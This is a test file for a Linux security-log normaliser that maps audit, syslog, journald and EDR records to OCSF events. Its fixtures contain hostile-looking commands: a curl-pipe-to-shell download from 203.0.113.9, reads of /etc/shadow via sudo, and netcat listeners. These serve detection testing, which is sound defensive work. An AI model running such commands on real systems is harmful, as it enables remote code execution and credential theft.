import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { NativeObject, NormalisedEvent } from '../source.js';
import { linux } from './index.js';

const read = (bytes: Buffer): NormalisedEvent[] =>
  linux.split(bytes).map((piece) => linux.normalise(JSON.parse(String(piece)) as NativeObject, piece));
const fixture = (name: string): NormalisedEvent[] => read(readFileSync(join(__dirname, 'fixtures', name)));
const AT = Date.UTC(2026, 10, 2, 9, 20, 0, 250);

describe('Linux', () => {
  it.each([
    ['Laurel', 0, AT + 40 * 60_000],
    ['Auditbeat', 1, AT],
    ['Sysmon', 2, AT],
  ])('reads a process creation of %s', (_, index, occurredAt) => {
    const event = fixture('events.jsonl')[index];
    expect(event).toMatchObject({
      occurredAt,
      entity: 'host:web1.example.test',
      ocsf: {
        categoryUid: 1,
        classUid: 1007,
        activityId: 1,
        device: { hostname: 'web1.example.test' },
        actor: {
          userName: 'www-data',
          processName: 'dash',
          processPath: '/usr/bin/dash',
          commandLine: 'sh -c curl -s http://203.0.113.9/a | sh',
          pid: 4101,
        },
      },
    });
    expect(event?.observables).toEqual(
      expect.arrayContaining([
        { kind: 'hostname', value: 'web1.example.test' },
        { kind: 'user-name', value: 'www-data' },
        { kind: 'process-name', value: 'dash' },
      ]),
    );
  });

  it.each<[string, object]>([
    [
      'sshd[5]: Accepted password for root from 192.0.2.7 port 5 ssh2',
      { ocsf: { classUid: 3002, activityId: 1, src: { ip: '192.0.2.7', port: 5 } } },
    ],
    [
      '<38>Nov 28 05:00:01 web1 sshd[5]: Invalid user bob from 192.0.2.7 port 5',
      { ocsf: { classUid: 3002, actor: { userName: 'bob' } } },
    ],
    [
      'sshd[5]: Failed password for invalid user a from 10.0.0.1 port 1 ssh2 from 192.0.2.7 port 5 ssh2',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7', port: 5 } } },
    ],
    ['sshd-session[5]: Disconnected from user ada 192.0.2.7 port 5', { ocsf: { classUid: 3002, activityId: 2 } }],
    [
      'sudo: ada : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      { ocsf: { classUid: 1007, activityId: 1, message: 'sudo: /bin/sh' } },
    ],
    [
      'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ada(uid=1000)',
      { ocsf: { classUid: 3002, activityId: 1, actor: { userName: 'root' } } },
    ],
    [
      'useradd[77]: new user: name=eve, UID=1001, GID=1001',
      { ocsf: { classUid: 3001, activityId: 1, actor: { userName: 'eve' } } },
    ],
    ["userdel[77]: delete user 'eve'", { ocsf: { classUid: 3001, activityId: 6 } }],
    [
      'sshd[5]: Connection closed by invalid user a 10.0.0.1 port 1 192.0.2.7 port 5 [preauth]',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7', port: 5 } } },
    ],
    [
      'sshd[5]: Connection closed by 192.0.2.7 port 5',
      { ocsf: { classUid: 3002, activityId: 2, src: { ip: '192.0.2.7' } } },
    ],
    [
      'sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7  user=root',
      { ocsf: { classUid: 3002, actor: { userName: 'root' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      'sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7  user=x rhost=10.0.0.1',
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7' } } },
    ],
    [
      'sshd[5]: error: maximum authentication attempts exceeded for root from 192.0.2.7 port 5 ssh2 [preauth]',
      { ocsf: { classUid: 3002, actor: { userName: 'root' }, src: { ip: '192.0.2.7' } } },
    ],
    [
      `sshd[5]: Connection closed by invalid user a 10.0.0.1 port 1 ${'x'.repeat(300)} 192.0.2.7 port 5 [preauth]`,
      { ocsf: { classUid: 3002, src: { ip: '192.0.2.7' } } },
    ],
    [
      `sshd[5]: Connection closed by invalid user a 10.0.0.1 port 1 ${'x'.repeat(1_100)} 192.0.2.7 port 5 [preauth]`,
      { ocsf: { classUid: 3002, src: undefined } },
    ],
    ['vsftpd[5]: [x] FAIL LOGIN: Client "10.0.0.1"] FAIL LOGIN: Client "192.0.2.7"', { ocsf: { classUid: 0 } }],
    [
      'sshd[5]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser=x rhost=10.0.0.1 rhost=192.0.2.7',
      { ocsf: { classUid: 0 } },
    ],
    ['su[5]: FAILED su for root by ada', { ocsf: { classUid: 3002, actor: { userName: 'root' } } }],
    ['systemd-logind[5]: New session 7 of user ada.', { ocsf: { classUid: 3002, actor: { userName: 'ada' } } }],
    [
      "systemd-logind[5]: New session '7' of user 'ada' with class 'user' and type 'tty'.",
      { ocsf: { classUid: 3002, actor: { userName: 'ada' } } },
    ],
    ['systemd-logind[5]: New session c1 of user a.b.', { ocsf: { classUid: 3002, actor: { userName: 'a.b' } } }],
    [
      'su[5]: pam_unix(su:session): session closed for user ada',
      { ocsf: { classUid: 3002, activityId: 2, actor: { userName: 'ada' } } },
    ],
    [
      'sshd[5]: pam_unix(sshd:session): session opened for user ada(uid=1000) by (uid=0)',
      { ocsf: { classUid: 3002, actor: { userName: 'ada' } } },
    ],
    [`sshd[5]: session opened for user ${'a'.repeat(65)}`, { ocsf: { classUid: 0 } }],
    [
      'useradd[5]: new user: name=ada, UID=1001, GID=1001, home=/srv/ada, shell=/bin/sh, from=none',
      { ocsf: { classUid: 3001, activityId: 1, actor: { userName: 'ada' } } },
    ],
    ["passwd[5]: password for 'ada' changed by 'root'", { ocsf: { classUid: 3001, actor: { userName: 'ada' } } }],
    ["userdel[5]: delete user 'ada.'", { ocsf: { classUid: 3001, activityId: 6, actor: { userName: 'ada.' } } }],
    ['CRON[5]: (root) CMD (/usr/bin/run)', { ocsf: { classUid: 1007, actor: { userName: 'root' } } }],
    ["usermod[5]: add 'eve' to group 'sudo'", { ocsf: { classUid: 3006, activityId: 3, actor: { userName: 'eve' } } }],
    [
      'sudo: eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      { ocsf: { classUid: 1007, actor: { userName: 'eve' } } },
    ],
    [
      'vsftpd[5]: [ada] FAIL LOGIN: Client "::ffff:192.0.2.7"',
      { ocsf: { classUid: 3002, actor: { userName: 'ada' }, src: { ip: '192.0.2.7' } } },
    ],
    ['myapp: session opened for user root', { ocsf: { classUid: 0 } }],
    ['Accepted password for root from 192.0.2.7 port 5 ssh2', { ocsf: { classUid: 0 } }],
  ])('reads the line of a program, with a header or a tag alone: %s', (line, expected) =>
    expect(read(Buffer.from(line))).toMatchObject([expected]),
  );

  it.each<[string, NativeObject]>([
    ['bytes', { MESSAGE: [...Buffer.from('ada : TTY=pts/0 ; USER=root ; COMMAND=/bin/sh -c \u001b[0m/etc/shadow')] }],
    ['bytes that are not UTF-8', { MESSAGE: [...Buffer.from('ada : TTY=pts/0 ; COMMAND=/etc/shadow \xff', 'latin1')] }],
    ['a name that stands twice', { MESSAGE: ['ada : TTY=pts/0 ; COMMAND=/etc/shadow', [...Buffer.from('\u001b')]] }],
    ['texts', { MESSAGE: 'ada : TTY=pts/0 ; COMMAND=/etc/shadow' }],
  ])("reads what systemd's journal has as %s", (_, message) => {
    const event = {
      __REALTIME_TIMESTAMP: '1793611200250000',
      SYSLOG_IDENTIFIER: 'sudo',
      _HOSTNAME: 'web1',
      ...message,
    };
    const made = linux.normalise(event, Buffer.from('{}'));
    expect(made).toMatchObject({
      occurredAt: 1_793_611_200_250,
      entity: 'host:web1',
      ocsf: { classUid: 1007, actor: { userName: 'ada' } },
    });
    expect(made.ocsf.message).toContain('/etc/shadow');
  });

  it("takes what systemd's journal leaves out as it is", () => {
    const event = { MESSAGE: null, SYSLOG_IDENTIFIER: [...Buffer.from('su\u0007')], _COMM: 'su', _HOSTNAME: 'web1' };
    expect(linux.normalise(event, Buffer.from('{}'))).toMatchObject({ entity: 'host:web1', ocsf: { classUid: 0 } });
  });

  it('takes audit records as text, those of one event together', () => {
    const events = fixture('audit.log');
    expect(events).toHaveLength(3);
    expect(events[0]).toMatchObject({
      occurredAt: 1_793_613_600_250,
      entity: 'host:unknown',
      ocsf: {
        classUid: 1007,
        message: 'execve: sh -c curl -s http://203.0.113.9/a | sh',
        actor: { processName: 'dash', pid: 4101 },
      },
    });
    expect(events[1]).toMatchObject({ ocsf: { classUid: 4001, activityId: 1, dst: { ip: '203.0.113.9', port: 80 } } });
    expect(events[1]?.observables).toContainEqual({ kind: 'ip-address', value: '203.0.113.9' });
    expect(events[2]).toMatchObject({ ocsf: { classUid: 3001, activityId: 1 } });
  });

  it.each([
    `acct="ada" exe="/usr/sbin/sshd" hostname=? addr=192.0.2.7 terminal=ssh res=failed'`,
    `id=1000 exe="/usr/sbin/sshd" hostname=? addr=192.0.2.7 terminal=ssh res=success'\x1dUID="root" AUID="ada" ID="ada"`,
  ])('names whom a logon in the audit log is of, not the program that says so: %s', (rest) => {
    const line = `type=USER_LOGIN msg=audit(1793613600.250:5): pid=5 uid=0 auid=4294967295 ses=1 msg='op=login ${rest}`;
    expect(read(Buffer.from(line))).toMatchObject([
      { ocsf: { classUid: 3002, actor: { userName: 'ada' }, src: { ip: '192.0.2.7' } } },
    ]);
  });

  it('reads who tried to log on, and from where', () => {
    expect(fixture('events.jsonl')[3]).toMatchObject({
      occurredAt: 1_793_611_200_250,
      entity: 'host:web1.example.test',
      ocsf: { classUid: 3002, activityId: 1, actor: { userName: 'admin' }, src: { ip: '203.0.113.9', port: 52_144 } },
    });
  });

  it('reads a log line, and lines with JSON behind a header', () => {
    expect(fixture('events.jsonl')[4]).toMatchObject({
      entity: 'host:web1.example.test',
      ocsf: { message: 'sudo: /usr/bin/cat /etc/shadow' },
    });
    expect(
      read(Buffer.from('<13>Nov  2 10:00:00 web1 laurel: {"type":"EXECVE","a0":"id","hostname":"web1"}\n')),
    ).toMatchObject([{ entity: 'host:web1', ocsf: { classUid: 1007 } }]);
    expect(read(Buffer.from('Nov  2 10:00:00 web1 app[3]: broken {json\n'))).toMatchObject([
      { entity: 'host:web1', ocsf: { classUid: 0 } },
    ]);
  });

  it("reads agents' feeds, whose times are counted", () => {
    const falcon = {
      aid: 'a1',
      ComputerName: 'host1',
      timestamp: '1793611200250',
      event_simpleName: 'ProcessRollup2',
      ImageFileName: '/usr/bin/nc',
      CommandLine: 'nc -l',
      UserName: 'ada',
    };
    expect(linux.normalise(falcon, Buffer.from('{}'))).toMatchObject({
      occurredAt: 1_793_611_200_250,
      entity: 'host:host1',
      ocsf: { classUid: 1007, actor: { userName: 'ada', processName: 'nc' } },
    });
    const osquery = {
      name: 'process_events',
      hostIdentifier: 'host1',
      unixTime: 1_793_611_200,
      columns: { path: '/usr/bin/nc', cmdline: 'nc -l' },
    };
    expect(linux.normalise(osquery, Buffer.from('{}'))).toMatchObject({
      occurredAt: 1_793_611_200_000,
      entity: 'host:host1',
      ocsf: { classUid: 1007 },
    });
  });
});
